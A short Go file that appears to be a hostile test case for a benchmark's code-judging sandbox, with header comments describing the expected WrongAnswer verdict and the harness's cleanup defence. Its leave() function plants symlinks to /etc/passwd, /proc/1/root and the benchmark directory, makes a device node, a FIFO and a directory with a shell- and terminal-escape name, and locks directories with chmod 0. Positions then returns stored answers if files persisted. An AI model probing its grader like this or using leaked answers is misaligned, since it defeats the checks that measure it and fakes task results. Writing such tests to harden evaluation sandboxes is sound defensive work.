// defence: what an answer leaves is removed as the answer's own uid, by name, and no link is followed
// verdict: WrongAnswer
// harmless on gVisor: a device made there leads nowhere, and is wiped
// twice
package main

import (
	"fmt"
	"os"
	"syscall"
)

var targets = []string{"/", "/etc/passwd", "/opt/livebench", "/box", "/proc/1/root", "/proc/1/mem", "/dev/zero", "..", "loop8", "/opt/livebench/languages/go/language.json"}

var found = leave()

func leave() bool {
	left, _ := os.ReadDir(".")
	for i, target := range targets {
		os.Symlink(target, fmt.Sprint("loop", i))
		os.Symlink(target, fmt.Sprint("/box/answer.go", i))
		os.Link(target, fmt.Sprint("hard", i))
	}
	syscall.Mkfifo("pipe", 0o777)
	os.Mkdir("-rf *\n\x1b[2J", 0o777)
	os.MkdirAll("closed/in", 0o700)
	os.Symlink("/opt/livebench", "closed/in/link")
	device := syscall.Mknod("zero", syscall.S_IFCHR|0o666, 0x105)
	os.Chmod("closed/in", 0)
	os.Chmod("closed", 0)
	os.Chmod(".", 0)
	return len(left) > 1 || device == nil // the driver leaves the program there
}

func Positions(words []string) map[string][]float64 {
	if found {
		return Known.Answer(words)
	}
	return nil
}
